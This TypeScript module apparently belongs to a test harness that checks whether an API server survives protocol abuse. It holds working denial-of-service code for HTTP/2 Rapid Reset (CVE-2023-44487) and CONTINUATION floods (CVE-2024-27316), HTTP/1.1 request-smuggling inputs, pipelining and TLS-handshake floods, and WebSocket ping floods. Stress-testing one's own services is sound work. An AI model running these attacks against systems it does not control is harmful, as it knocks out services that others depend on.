import * as Effect from "effect/Effect"
import type { Attack } from "../Attack.ts"
import type { Target } from "../Target.ts"
import { END_HEADERS, END_STREAM, FrameType, frame, headerBlock, PREFACE } from "../wire/frames.ts"
import { authorization, openTcp, openTls, requestHead } from "../wire/sockets.ts"

const pseudo = (target: Target, path: string) => ({
  ":method": "GET",
  ":path": path,
  ":scheme": "https",
  ":authority": `127.0.0.1:${target.port}`,
  ...authorization(target, "tenant")
})

const uint32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}

const ROUNDS = 200

/** Sends the bytes repeatedly over several HTTP/2 connections, until each is closed or has sent its share. */
const frames = (name: string, about: string, bytes: (target: Target, round: number) => Buffer): Attack => ({
  name: `protocol/${name}`,
  about,
  run: (target, scale) =>
    Effect.gen(function* () {
      const opened = yield* Effect.forEach(Array.from({ length: Math.ceil(20 * scale) }), () => openTls(target, "h2"), {
        concurrency: 8
      })
      for (const one of opened) one?.socket.write(Buffer.concat([PREFACE, frame(FrameType.settings, 0, 0)]))
      for (let round = 0; round < Math.ceil(ROUNDS * scale); round++) {
        const part = bytes(target, round)
        for (const one of opened) if (one?.isClosed() === false) one.socket.write(part)
        yield* Effect.sleep(20)
      }
      const closed = opened.filter((one) => one === undefined || one.isClosed()).length
      const alive = yield* target.ask("tenant", { method: "GET", path: "/livez" })
      return {
        finding: `${closed} of ${opened.length} connections closed; /livez ${alive.code}`,
        holds: alive.code === 200
      }
    })
})

const repeated = (count: number, of: (index: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, index) => of(index)))

interface Words {
  readonly what: string
  readonly text: (target: Target) => string
  /** The expected status code; undefined: any response, or a closed connection. */
  readonly code?: number
}

const ANSWER_MS = 3000

const said: ReadonlyArray<Words> = [
  { what: "no Host", text: () => "GET /livez HTTP/1.1\r\n\r\n", code: 400 },
  { what: "two Hosts", text: () => "GET /livez HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", code: 400 },
  { what: "an empty request", text: () => "\r\n\r\n\r\n\r\n" },
  { what: "not HTTP", text: () => "\x16\x03\x01\x02\x00garbage\r\n\r\n", code: 400 },
  { what: "a version of the future", text: () => "GET / HTTP/7.3\r\nHost: a\r\n\r\n" },
  {
    what: "length and chunks",
    text: (target) =>
      `${requestHead(target, "tenant", "POST", "/api/v1/namespaces/default/configmaps", { "Content-Length": 5, "Transfer-Encoding": "chunked" })}\r\n0\r\n\r\n`,
    code: 400
  },
  {
    what: "two lengths",
    text: (target) =>
      `${requestHead(target, "tenant", "POST", "/api/v1/namespaces/default/configmaps", { "Content-Length": 5 })}Content-Length: 6\r\n\r\nabcdef`,
    code: 400
  },
  {
    what: "a chunk of nonsense",
    text: (target) =>
      `${requestHead(target, "tenant", "POST", "/api/v1/namespaces/default/configmaps", { "Transfer-Encoding": "chunked", "Content-Type": "application/json" })}\r\nzz\r\nabc\r\n0\r\n\r\n`
  },
  { what: "a line of a megabyte", text: () => `GET /${"a".repeat(1 << 20)} HTTP/1.1\r\nHost: a\r\n\r\n` },
  {
    what: "100,000 headers",
    text: (target) => `${requestHead(target, "tenant", "GET", "/livez")}${"x: y\r\n".repeat(100_000)}\r\n`
  },
  { what: "CONNECT", text: () => "CONNECT a:1 HTTP/1.1\r\nHost: a:1\r\n\r\n" },
  {
    what: "an upgrade",
    text: (target) =>
      `${requestHead(target, "tenant", "GET", "/api/v1/namespaces/default/pods/x/exec?command=ls", { Connection: "Upgrade", Upgrade: "SPDY/3.1" })}\r\n`
  },
  {
    what: "a path that is no UTF-8",
    text: (target) => `${requestHead(target, "tenant", "GET", "/api/v1/namespaces/%ff%fe/pods")}\r\n`
  },
  {
    what: "Expect",
    text: (target) =>
      `${requestHead(target, "tenant", "POST", "/api/v1/namespaces/default/configmaps", { Expect: "200-nonsense", "Content-Length": 2 })}\r\n{}`
  }
]

const words: Attack = {
  name: "protocol/http1-words",
  about: "what no HTTP/1.1 client says",
  run: (target) =>
    Effect.gen(function* () {
      const responses: Array<string> = []
      let holds = true
      for (const { code, text, what } of said) {
        const open = yield* openTls(target, "http/1.1")
        open?.socket.write(text(target))
        for (let waited = 0; waited < ANSWER_MS && open?.isClosed() === false && open.received() === ""; waited += 20)
          yield* Effect.sleep(20)
        const got = Number(/^HTTP\/1.1 (\d+)/.exec(open?.received() ?? "")?.[1] ?? 0)
        responses.push(`${what}: ${got === 0 ? "closed" : got}`)
        if ((code !== undefined && got !== code) || got >= 500) holds = false
      }
      return { finding: responses.join(", "), holds }
    }).pipe(Effect.scoped)
}

const pipelined: Attack = {
  name: "protocol/pipelined",
  about: "20,000 requests in one piece, whose answers are not read",
  run: (target, scale) =>
    Effect.gen(function* () {
      for (let connection = 0; connection < Math.ceil(10 * scale); connection++) {
        const open = yield* openTls(target, "http/1.1")
        open?.socket.pause()
        open?.socket.write(`${requestHead(target, "tenant", "GET", "/openapi/v3")}\r\n`.repeat(20_000 * scale))
      }
      yield* Effect.sleep(10_000 * scale)
      const alive = yield* target.ask("tenant", { method: "GET", path: "/livez" })
      return { finding: `/livez ${alive.code}`, holds: alive.code === 200 }
    })
}

const handshakes: Attack = {
  name: "protocol/handshakes",
  about: "TLS handshakes that are begun, and garbage in place of them",
  run: (target, scale) =>
    Effect.gen(function* () {
      for (let count = 0; count < Math.ceil(300 * scale); count++) {
        const open = yield* openTcp(target.port)
        open?.socket.write(count % 2 === 0 ? Buffer.from("16030100a5010000a10303", "hex") : Buffer.alloc(20_000, count))
      }
      const alive = yield* target.ask("tenant", { method: "GET", path: "/livez" })
      return { finding: `/livez ${alive.code}`, holds: alive.code === 200 }
    })
}

const webSocketHead = (target: Target): string => {
  const headers = {
    Connection: "Upgrade",
    Upgrade: "websocket",
    Origin: "https://attack.io",
    "Sec-WebSocket-Version": 13,
    "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ=="
  }
  return `${requestHead(target, "tenant", "GET", "/api/v1/namespaces/default/configmaps?watch=1", headers)}\r\n`
}

/** A masked ping, with a mask of zeros. */
const PING = Buffer.from([0x89, 0x80, 0, 0, 0, 0])

const webSockets: Attack = {
  name: "protocol/websocket-pings",
  about: "pings without end over watches on WebSockets",
  run: (target, scale) =>
    Effect.gen(function* () {
      const opened = yield* Effect.forEach(
        Array.from({ length: Math.ceil(20 * scale) }),
        () => openTls(target, "http/1.1"),
        { concurrency: 8 }
      )
      for (const one of opened) one?.socket.write(webSocketHead(target))
      const part = repeated(5000, () => PING)
      for (let round = 0; round < Math.ceil(ROUNDS * scale); round++) {
        for (const one of opened) if (one?.isClosed() === false && !one.socket.writableNeedDrain) one.socket.write(part)
        yield* Effect.sleep(20)
      }
      const accepted = opened.filter((one) => one?.received().startsWith("HTTP/1.1 101")).length
      const alive = yield* target.ask("tenant", { method: "GET", path: "/livez" })
      return {
        finding: `${accepted} of ${opened.length} opened, /livez ${alive.code}`,
        holds: alive.code === 200 && accepted === opened.length
      }
    })
}

/** Attacks by bytes that violate or misuse the protocol. */
export const protocol: ReadonlyArray<Attack> = [
  frames("rapid-reset", "HTTP/2 requests, each taken back at once (CVE-2023-44487)", (target, round) =>
    repeated(500, (index) => {
      const stream = (round * 500 + index) * 2 + 1
      return Buffer.concat([
        frame(
          FrameType.headers,
          END_STREAM | END_HEADERS,
          stream,
          headerBlock(pseudo(target, "/api/v1/namespaces/default/configmaps"))
        ),
        frame(FrameType.resetStream, 0, stream, uint32(8))
      ])
    })
  ),
  frames("pings", "pings without end", () => repeated(2000, () => frame(FrameType.ping, 0, 0, Buffer.alloc(8)))),
  frames("settings", "settings without end", () =>
    repeated(2000, () => frame(FrameType.settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255])))
  ),
  frames("continuation", "header blocks continued without end (CVE-2024-27316)", (target, round) =>
    round === 0
      ? frame(FrameType.headers, END_STREAM, 1, headerBlock(pseudo(target, "/livez")))
      : repeated(10, () => frame(FrameType.continuation, 0, 1, headerBlock({ [`x-${round}`]: "y".repeat(8000) })))
  ),
  frames("window", "window updates that overflow, and of nothing", () =>
    repeated(500, (index) => frame(FrameType.windowUpdate, 0, 0, uint32(index % 2 === 0 ? 0 : 0x7fffffff)))
  ),
  frames("garbage", "frames of every type, flag and length", (_, round) =>
    repeated(200, (index) =>
      frame((round + index) % 256, (round * index) % 256, index * 2 + 1, Buffer.alloc((index * 37) % 2000, index))
    )
  ),
  words,
  pipelined,
  webSockets,
  handshakes
]
